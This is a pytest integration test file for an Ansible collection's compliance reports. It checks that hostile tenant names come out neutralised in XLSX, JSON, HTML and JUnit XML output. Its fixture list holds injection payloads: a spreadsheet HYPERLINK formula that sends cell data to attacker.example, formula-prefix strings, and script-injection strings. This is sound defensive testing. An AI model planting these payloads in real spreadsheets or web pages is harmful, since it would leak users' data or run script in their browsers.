# -*- coding: utf-8 -*-
# Copyright (c) 2026 prisma_sase.mt_monitor contributors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)

"""K10, K11, K12: the main job on hostile tenant names and data, read back from every format.

The main job runs twice: once on a hierarchy file of hostile tenant names, served as written,
and once on a simulator started with ``--hostile``, which puts hostile text into names and
data. Each test reads one format of the reports.
"""

from __future__ import absolute_import, division, print_function

__metaclass__ = type

import html
import json
import re
from pathlib import Path
from typing import Any, Dict, List
from xml.etree import ElementTree

import pytest
from openpyxl import load_workbook

from ansible_collections.prisma_sase.mt_monitor.tests.integration._main_job import (
    MAIN_PLAYBOOK,
    output_args,
    read_json_report,
)
from ansible_collections.prisma_sase.mt_monitor.tests.integration._playbook import run_playbook
from ansible_collections.prisma_sase.mt_monitor.tests.integration._simulator import (
    DEMO_ROOT_TSG_ID,
    Simulator,
)
from ansible_collections.prisma_sase.mt_monitor.tests.integration._tenant_runs import (
    tenant_node,
    write_hierarchy,
)

LONG_NAME = "Long" + "N" * 100_000

# Tenant names that attack spreadsheets, HTML and XML, or that are hard to render.
HOSTILE_NAMES = [
    '=HYPERLINK("https://attacker.example/?d="&B2,"x")',
    "@SUM(1+1)",
    "+cmd",
    "-5",
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "javascript:alert(1)",
    "Acme\x0bCorp",
    "Bell\x07Labs",
    LONG_NAME,
    "\u05e9\u05dc\u05d5\u05dd \u202eevil\u202c",
    "Caf\u00e9 \U0001F600 \U0001F680",
    "Quote \"double\" 'single' [brackets] {braces} <angles> & amp",
]

# Characters that Excel cannot hold and that every format replaces.
CONTROL_CHARACTERS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")


def hostile_hierarchy(path: Path) -> Path:
    children = [
        tenant_node("10000001%02d" % (index + 10), name) for index, name in enumerate(HOSTILE_NAMES)
    ]
    return write_hierarchy(path, tenant_node(DEMO_ROOT_TSG_ID, "Root MSSP", children))


def run_main_job(root: Path, extra_args: List[str]) -> Path:
    """Run the main job against a simulator started with ``extra_args``; return the reports."""
    simulator = Simulator(seed=5, extra_args=extra_args).start()
    try:
        reports = root / "reports"
        run = run_playbook(
            MAIN_PLAYBOOK, root / "run", simulator.connection_environment(), args=output_args(reports)
        )
    finally:
        simulator.stop()
    assert run.rc == 0, run.output()[-5000:]
    return reports


@pytest.fixture(scope="module")
def hostile_reports(tmp_path_factory):
    """Return the reports of a run on the hostile names, served exactly as written."""
    root = tmp_path_factory.mktemp("hostile-names")
    hierarchy = hostile_hierarchy(root / "hierarchy.json")
    return run_main_job(root, ["--hierarchy", str(hierarchy)])


@pytest.fixture(scope="module")
def hostile_data_reports(tmp_path_factory):
    """Return the reports of a run with ``--hostile``: hostile text in names and data."""
    return run_main_job(tmp_path_factory.mktemp("hostile-data"), ["--tenants", "8", "--hostile"])


def expected_name(name: str) -> str:
    """Return the name as every format should show it: controls replaced, not yet cut."""
    return CONTROL_CHARACTERS.sub("\ufffd", name)


def short_names() -> List[str]:
    return [expected_name(name) for name in HOSTILE_NAMES if name != LONG_NAME]


def all_cells(path: Path) -> List[Any]:
    workbook = load_workbook(path)
    cells = []
    try:
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                cells.extend(row)
    finally:
        workbook.close()
    return cells


def test_k11_workbook_has_no_injected_formula(hostile_reports) -> None:
    cells = all_cells(hostile_reports / "compliance-latest.xlsx")

    formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}

    assert formulas == [], formulas
    for name in short_names():
        assert name in texts, name
    assert "-5" in texts
    numbers = [cell.value for cell in cells if isinstance(cell.value, (int, float))]
    assert numbers, "the workbook has no numeric cells"


@pytest.mark.parametrize("run", ["hostile_reports", "hostile_data_reports"])
def test_k10_workbook_cuts_and_replaces(request, run) -> None:
    cells = all_cells(request.getfixturevalue(run) / "compliance-latest.xlsx")

    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]

    assert max(len(text) for text in texts) <= 32767
    assert [text for text in texts if CONTROL_CHARACTERS.search(text)] == []
    if run == "hostile_reports":
        assert any(text.startswith("LongNNN") and "[truncated" in text for text in texts)


def test_k10_json_counts_cleaning(hostile_reports) -> None:
    report = read_json_report(hostile_reports)
    cleaning = report["report"]["text_cleaning"]

    assert cleaning["controls_replaced"] >= 2, cleaning
    assert cleaning["truncated_values"] >= 1, cleaning
    text = json.dumps(report, ensure_ascii=False)
    for name in short_names():
        assert json.dumps(name, ensure_ascii=False)[1:-1] in text, name
    assert not CONTROL_CHARACTERS.search(text.replace("\\u000b", "").replace("\\u0007", ""))


@pytest.mark.parametrize("run", ["hostile_reports", "hostile_data_reports"])
def test_k12_html_escapes_every_name(request, run) -> None:
    text = (request.getfixturevalue(run) / "compliance-latest.html").read_text(encoding="utf-8")

    assert "<img src=x" not in text
    assert "<script>alert(1)" not in text
    assert 'href="javascript:' not in text.lower()
    assert "Content-Security-Policy" in text
    assert html.escape("<img src=x onerror=alert(1)>", quote=False) in text or "\\u003cimg" in text
    assert not CONTROL_CHARACTERS.search(text)


def test_k10_junit_names_readable(hostile_reports) -> None:
    root = ElementTree.parse(hostile_reports / "compliance-latest.xml").getroot()
    texts: Dict[str, None] = {}
    for element in root.iter():
        for value in element.attrib.values():
            texts[value] = None
        if element.text:
            texts[element.text] = None
    joined = "\n".join(texts)

    for name in short_names():
        assert name in joined, name
    assert not CONTROL_CHARACTERS.search(joined)
